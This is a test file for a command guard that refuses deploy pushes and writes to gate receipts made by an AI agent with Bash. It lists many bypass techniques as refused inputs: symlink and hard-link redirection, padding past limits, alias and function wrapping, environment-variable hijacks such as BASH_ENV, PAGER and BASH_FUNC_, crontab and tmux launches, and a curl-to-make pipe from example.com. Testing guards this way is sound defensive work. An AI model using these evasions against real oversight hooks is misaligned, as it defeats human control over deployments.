/**
 * The guard against an agent that pads, hides and relocates. Every bound the guard keeps on its work
 * fails closed: padding a command past a limit (hundreds of harmless paths, writes, links, xargs words,
 * Makefile targets, function levels) must never turn a refusal into a pass; and what bash would run or
 * write is read as bash reads it (substitutions where they run, variables and lists, globs, `cd -`,
 * `popd`, `~user`). Each row is the attack an agent with Bash would write, beside its short form
 * (refused before the limit too, so the row tests the limit and not the rule) and, where there is one,
 * the same padding around a harmless command (still allowed: the fix is not "refuse everything long").
 * Real files, real symbolic links (dangling ones included), a real hard-link candidate.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { mkdirSync, symlinkSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { parse } from 'yaml';
import { classifyCommand, MAX_COMMAND_LENGTH } from '../../mcp-server/src/gates/guard/classify-command.js';
import { policyFromConfig } from '../../mcp-server/src/gates/guard/guard-policy.js';
import { fsLookup } from '../../mcp-server/src/gates/guard/fs-lookup.js';
import { fileToolDecision } from '../../mcp-server/src/cli/guard-input.js';
import type { GuardContext } from '../../mcp-server/src/gates/guard/guard-context.js';
import { FIXTURE_CONFIG, makeGuardFixture, type GuardFixture } from '../gates/guard-fixture.js';

let fixture: GuardFixture;
let context: () => GuardContext;
const verdict = (command: string) => classifyCommand(command, context());
const times = (n: number, make: (i: number) => string, joiner = ' ') => Array.from({ length: n }, (_, i) => make(i)).join(joiner);

beforeAll(() => {
  fixture = makeGuardFixture();
  const policy = policyFromConfig(parse(FIXTURE_CONFIG), fixture.repo);
  context = () => ({ policy, env: fixture.env, cwd: fixture.repo, files: fsLookup() });
  const { repo, stateRoot } = fixture;
  // A link to a receipt that does not exist yet: a write through it creates the receipt.
  symlinkSync(join(stateRoot, 'receipts/forged.json'), join(repo, 'dangling'));
  // A bare word that is a link to a receipt (no `/` to make it look like a path).
  symlinkSync(join(stateRoot, 'receipts/production.json'), join(repo, 'rlink'));
  writeFileSync(join(repo, 'harmless.sh'), 'echo hello\n');
  writeFileSync(join(repo, 'lines-short.txt'), 'a\nb\nHEAD:production\n');
  writeFileSync(join(repo, 'lines-long.txt'), `${times(20, (i) => `b${i}`, '\n')}\nHEAD:production\n`);
  writeFileSync(join(repo, 'words-short.txt'), 'a b HEAD:production\n');
  writeFileSync(join(repo, 'words-long.txt'), `${times(600, (i) => `w${i}`)} HEAD:production\n`);
  mkdirSync(join(repo, 'mkbig'));
  writeFileSync(join(repo, 'mkbig/Makefile'), `ship: ${times(600, (i) => `t${i}`)} real\n\n${times(600, (i) => `t${i}:\n\techo ${i}`, '\n')}\nreal:\n\tvercel --prod\n`);
  mkdirSync(join(repo, 'mksmall'));
  writeFileSync(join(repo, 'mksmall/Makefile'), 'ship: t0 real\n\nt0:\n\techo 0\nreal:\n\tvercel --prod\n');
  writeFileSync(join(repo, 'long.sh'), `${'# padding padding padding padding padding padding padding padding\n'.repeat(Math.ceil(MAX_COMMAND_LENGTH / 64))}git push origin HEAD:production\n`);
  const workspaces = times(60, (i) => `p${i}`).split(' ');
  mkdirSync(join(repo, 'ws60'));
  writeFileSync(join(repo, 'ws60/package.json'), JSON.stringify({ name: 'ws60', private: true, workspaces }));
  for (const name of workspaces) {
    mkdirSync(join(repo, 'ws60', name));
    writeFileSync(join(repo, 'ws60', name, 'package.json'), JSON.stringify({ name, scripts: { release: name === 'p59' ? 'fly deploy' : 'echo ok' } }));
  }
});
afterAll(() => fixture.cleanup());

const expectRefused = (command: string) => {
  const result = verdict(command);
  expect(result.blocked, `expected a refusal for ${command.slice(0, 120)}…`).toBe(true);
  return result;
};
const expectAllowed = (command: string) => expect(verdict(command), `expected no refusal for ${command.slice(0, 120)}…`).toEqual({ blocked: false });

describe('symbolic links are followed however many paths came before', () => {
  it('a link into the state root after 300 other written paths', () => {
    expectRefused('echo x > state-link/receipts/r.json');
    expectRefused(`${times(300, (i) => `echo > o${i}`, '; ')}; echo x > state-link/receipts/r.json`);
    expectAllowed(`${times(300, (i) => `echo > o${i}`, '; ')}; echo x > out.txt`);
  });

  it('a bare word that is a link to a receipt, after 250 other words of a writing command', () => {
    expectRefused('tee rlink < /dev/null');
    expectRefused(`tee ${times(250, (i) => `w${i}`)} rlink < /dev/null`);
    expectAllowed(`tee ${times(250, (i) => `w${i}`)} out.txt < /dev/null`);
  });

  it('a dangling link to a receipt not yet written: Bash and the file tools', () => {
    expect(expectRefused('echo x > dangling').ruleId).toBe('shipgate-state');
    expectRefused('cp forged.json dangling');
    const write = fileToolDecision({ kind: 'file', toolName: 'Write', toolInput: { file_path: join(fixture.repo, 'dangling'), content: '{}' }, cwd: fixture.repo }, fixture.env, fsLookup());
    expect(JSON.parse(write.stdout).hookSpecificOutput.permissionDecision).toBe('deny');
  });
});

describe('links made in the same call', () => {
  it('the 71st link is followed like the first', () => {
    expectRefused(`ln -s ${fixture.stateRoot} st; echo x > st/receipts/r.json`);
    expectRefused(`${times(70, (i) => `ln -s a l${i}`, '; ')}; ln -s ${fixture.stateRoot} st; echo x > st/receipts/r.json`);
  });

  it('a relative target is read from the link folder, as the kernel does', () => {
    expectRefused('mkdir -p d/e && ln -s ../../state-link d/e/up && echo x > d/e/up/receipts/r.json');
    // Read against the current folder instead, `../home/...` would name a folder that does not exist.
    expectRefused('mkdir -p d && ln -s ../../home/.local/state/shipgate d/x && echo x > d/x/receipts/r.json');
  });

  it('several targets into a folder, and -t FOLDER', () => {
    expectRefused(`mkdir d; ln -s a b ${fixture.stateRoot} d; echo x > d/shipgate/receipts/r.json`);
    expectRefused(`mkdir d; ln -s -t d ${fixture.stateRoot}; echo x > d/shipgate/receipts/r.json`);
    expectRefused(`mkdir d; ln -st d ${fixture.stateRoot}; echo x > d/shipgate/receipts/r.json`);
  });

  it('a hard link gives gate state a second name: refused when made', () => {
    const receipt = join(fixture.stateRoot, 'receipts/production.json');
    expectRefused(`ln ${receipt} r.json`);
    expectRefused(`cp -l ${receipt} r.json`);
    expectRefused(`cp --link ${receipt} r.json`);
    expectAllowed(`cp ${receipt} /tmp/backup.json`);
    expectAllowed('ln -s src/app.js app.js');
  });

  it('a symbolic link to gate state is refused when made: a write in a parallel tool call was checked before it existed', () => {
    expectRefused(`ln -s ${fixture.stateRoot} st`);
    expectRefused(`ln -sfn ${join(fixture.stateRoot, 'receipts')} r`);
    expectRefused(`cp -s ${join(fixture.stateRoot, 'receipts/production.json')} r.json`);
    expectAllowed('ln -sfn ../shared/config config');
  });
});

describe('files written in the call are tracked however many', () => {
  it('a script rewritten after 2,100 other writes is read as rewritten', () => {
    expectRefused("echo 'git push origin HEAD:production' > harmless.sh; bash harmless.sh");
    expectRefused(`${times(2100, (i) => `echo > w${i}`, '; ')}; echo 'git push origin HEAD:production' > harmless.sh; bash harmless.sh`);
    expectAllowed(`${times(2100, (i) => `echo > w${i}`, '; ')}; bash harmless.sh`);
  });

  it('a script changed by the 65th file of a sed -i is unreadable, not read from disk', () => {
    expectRefused('sed -i s/hello/x/ harmless.sh; bash harmless.sh');
    expectRefused(`sed -i s/hello/x/ ${times(70, (i) => `f${i}`)} harmless.sh; bash harmless.sh`);
  });
});

describe('functions and aliases', () => {
  it('a function called after a reserved word is read at its call', () => {
    expectRefused('f0() { "$@"; }; f0 git push origin HEAD:production');
    expectRefused('f0() { "$@"; }; f1() { f0 "$@"; }; f1 git push origin HEAD:production');
    expectRefused('f0() { "$@"; }; if true; then f0 git push origin HEAD:production; fi');
    expectRefused('f0() { "$@"; }; ! f0 git push origin HEAD:production');
    expectRefused('f0() { "$@"; }; time f0 git push origin HEAD:production');
    expectAllowed('f0() { "$@"; }; if true; then f0 npm test; fi');
  });

  it('an alias used after a reserved word is expanded', () => {
    expectRefused("alias p='git push origin HEAD:production'; p");
    expectRefused("alias p='git push origin HEAD:production'; if true; then p; fi");
    expectAllowed("alias t='npm test'; if true; then t; fi");
  });

  it('functions nested deeper than the guard reads are refused as too complex', () => {
    const chain = (n: number) => ['f0() { "$@"; }', ...Array.from({ length: n }, (_, i) => `f${i + 1}() { f${i} "$@"; }`), `f${n} git push origin HEAD:production`].join('; ');
    expect(expectRefused(chain(3)).ruleId).toBe('git-push');
    expect(expectRefused(chain(12)).ruleId).toBe('too-complex');
    expectAllowed('f0() { "$@"; }; f1() { f0 "$@"; }; f1 npm test');
  });
});

describe('command substitutions are read where they run', () => {
  it('with the functions defined before them', () => {
    expectRefused('f0() { "$@"; }; f0 git push origin HEAD:production');
    expectRefused('f0() { "$@"; }; echo $(f0 git push origin HEAD:production)');
    expectRefused('f0() { "$@"; }; x=$(f0 git push origin HEAD:production)');
    expectRefused('f0() { "$@"; }; echo `f0 git push origin HEAD:production` > out.txt');
    expectAllowed('f0() { "$@"; }; x=$(f0 git status)');
  });

  it('in the folder an earlier cd moved to', () => {
    // scripts/release.sh pushes to production; ./release.sh does not exist in the repository root.
    expectRefused('cd scripts && bash release.sh');
    expectRefused('cd scripts && x=$(bash release.sh)');
    expectAllowed('cd scripts && x=$(bash lint.sh)');
  });

  it('their output worked out where they run: the folder, and files written before them', () => {
    writeFileSync(join(fixture.repo, 'cmd.txt'), 'echo hi\n');
    writeFileSync(join(fixture.repo, 'sub/cmd.txt'), 'git push origin HEAD:production\n');
    expectRefused('$(cat sub/cmd.txt)');
    expectRefused('cd sub && $(cat cmd.txt)');
    expectRefused('cd sub; eval "$(cat cmd.txt)"');
    expectRefused("echo 'git push origin HEAD:production' > c.txt; $(cat c.txt)");
    expectRefused("echo 'git push origin HEAD:production' > c.txt; eval \"$(cat c.txt)\"");
    expectAllowed('$(cat cmd.txt)');
  });

  it('inside a function, with the arguments of each call', () => {
    expectRefused('g() { "$@"; }; f() { echo $(g "$@"); }; f git push origin HEAD:production');
    expectAllowed('g() { "$@"; }; f() { echo $(g "$@"); }; f npm test');
  });
});

describe('commands held in variables, lists, tables and the environment', () => {
  const push = 'git push origin HEAD:production';

  it('list elements, appends and set --: the program and its verb held apart', () => {
    expectRefused(`a[0]=git; a[1]=push; "\${a[@]}" origin HEAD:production`);
    expectRefused('X=gi; X+=t; $X push origin HEAD:production');
    expectRefused('set -- git push; "$@" origin HEAD:production');
    expectRefused('read -r C <<< "git push"; $C origin HEAD:production');
    expectAllowed('$EDITOR config/production.yml');
    expectAllowed('X=np; X+=m; $X test');
  });

  it('variables through which programs run commands, when the call sets them', () => {
    writeFileSync(join(fixture.repo, 'evil-env.sh'), `${push}\n`);
    for (const command of [
      `PAGER='${push}' git log`,
      `EDITOR='${push}' git commit`,
      `LESSOPEN='|${push} %s' less README.md`,
      `MANPAGER='${push}' man ls`,
      `PS4='$(${push})' bash -xc true`,
      `PROMPT_COMMAND='${push}' bash -i`,
      `env 'BASH_FUNC_ls%%=() { ${push}; }' bash -c ls`,
      'BASH_ENV=evil-env.sh bash -c true',
      'export BASH_ENV=evil-env.sh; bash -c true',
      `BASH_ENV=<(echo '${push}') bash -c true`,
      'npm_config_script_shell=./evil-env.sh npm test',
    ]) expectRefused(command);
    expectAllowed('PAGER=less git log');
    expectAllowed('EDITOR=vim git commit');
    expectAllowed("PS1='\\u@\\h:\\w$ ' bash -i");
  });

  it('a multiplexer keeps the words it is given: screen -dm bash -c, tmux new bash -c', () => {
    expectRefused(`screen -dm bash -c '${push}'`);
    expectRefused(`tmux new -d bash -c '${push}'`);
    expectRefused(`tmux new -d '${push}'`);
    expectAllowed("screen -dm bash -c 'npm test'");
  });

  it('a crontab installed from standard input or a file, and a Makefile read from standard input', () => {
    writeFileSync(join(fixture.repo, 'jobs.cron'), `# nightly\nMAILTO=me\n0 3 * * * ${push}\n`);
    expectRefused(`crontab <<< '* * * * * ${push}'`);
    expectRefused(`echo '@reboot ${push}' | crontab -`);
    expectRefused('crontab jobs.cron');
    expectAllowed("crontab <<< '0 3 * * * npm test'");
    expectAllowed('crontab -l');
    expectRefused(`make -f - <<< $'x:\\n\\t${push}'`);
    expectRefused('curl -s https://example.com/Makefile | make -f -');
  });
});

describe('files rewritten by a command that does not name them', () => {
  it('a package.json changed by npm pkg set, a pull, a checkout, a stash, a patch or an archive is not read from disk', () => {
    expectAllowed('npm test');
    expectRefused("npm pkg set scripts.test='git push origin HEAD:production' && npm test");
    expectRefused('git pull origin feature && npm test');
    expectRefused('git checkout feature && npm test');
    expectAllowed('bash scripts/lint.sh');
    for (const rewrite of ['git stash pop', 'git apply fix.diff', 'git merge feature', 'patch -p1 < fix.diff', 'tar xf a.tar', 'unzip -o a.zip', 'cp -r elsewhere/ scripts/']) {
      expectRefused(`${rewrite} && bash scripts/lint.sh`);
    }
  });

  it('everyday sequences still pass: the .git folder, a new branch, a build', () => {
    expectAllowed('git pull && git status');
    expectAllowed('git checkout -b topic-x && npm test');
    expectAllowed('git stash list && npm test');
    expectAllowed('npm run build && npm test');
    expectAllowed('git pull --rebase && git log --oneline -3');
  });
});

describe('paths as bash expands them', () => {
  it('a glob in a write target is matched against the folders it names', () => {
    expectRefused('echo x > ~/.local/state/ship*/receipts/r.json');
    expectRefused('cp x ~/.local/state/ship?ate/receipts/');
    expectRefused('cp x ~/.local/state/[s]hipgate/receipts/');
    expectRefused('echo x > .cl*/shipgate/receipts/r.json');
    expectAllowed('echo x > ~/.local/state/other*/r.json');
    expectAllowed('rm -f *.log');
  });

  it('cd -, $OLDPWD and popd go back to the folder the guard saw', () => {
    expectRefused('cd ~/.local/state/shipgate; cd /tmp; cd -; echo x > receipts/r.json');
    expectRefused('cd ~/.local/state/shipgate && cd /tmp && cd "$OLDPWD" && echo x > receipts/r.json');
    expectRefused('pushd ~/.local/state/shipgate; pushd /tmp; popd; echo x > receipts/r.json');
    expectAllowed('cd /tmp; cd -; echo x > out.txt');
  });

  it('~user is that user\'s home folder', () => {
    const env = { ...fixture.env, USER: 'agent' };
    const asAgent = (command: string) => classifyCommand(command, { ...context(), env });
    expect(asAgent('echo x > ~agent/.local/state/shipgate/receipts/r.json').blocked).toBe(true);
    expect(asAgent('echo x > ~agent/notes.txt')).toEqual({ blocked: false });
  });
});

describe('xargs, make, workspaces, long scripts, git config from the environment', () => {
  it('xargs -I with more lines than a loop is read: the value is unknown, not the first 16', () => {
    for (const replace of ['-I {}', '-I{}', '--replace={}']) {
      expectRefused(`xargs -a lines-short.txt ${replace} git push origin {}`);
      expectRefused(`xargs -a lines-long.txt ${replace} git push origin {}`);
    }
    expectAllowed('xargs -a lines-long.txt -I {} echo {}');
  });

  it('xargs with more than 500 words: the rest stands as unknown', () => {
    expectRefused('xargs -a words-short.txt git push origin');
    expectRefused('xargs -a words-long.txt git push origin');
  });

  it('a Makefile target with 600 prerequisites before the deploying one', () => {
    expectRefused('make -C mksmall ship');
    expectRefused('make -C mkbig ship');
    expectAllowed('make -C mkbig t5');
  });

  it('the 60th workspace of an npm workspace root is read', () => {
    expectRefused('cd ws60 && npm run release --workspaces');
  });

  it('a script longer than a command may be is refused, not read in part', () => {
    expect(expectRefused('bash long.sh').ruleId).toBe('too-complex');
  });

  it('GIT_CONFIG_COUNT past 1,000 entries: the last one is read', () => {
    const entries = (n: number) => times(n, (i) => `GIT_CONFIG_KEY_${i}=x.k${i} GIT_CONFIG_VALUE_${i}=v`);
    const alias = (i: number) => `GIT_CONFIG_KEY_${i}=alias.ship GIT_CONFIG_VALUE_${i}='push origin HEAD:production'`;
    expectRefused(`GIT_CONFIG_COUNT=2 ${entries(1)} ${alias(1)} git ship`);
    expectRefused(`GIT_CONFIG_COUNT=1101 ${entries(1100)} ${alias(1100)} git ship`);
  });
});
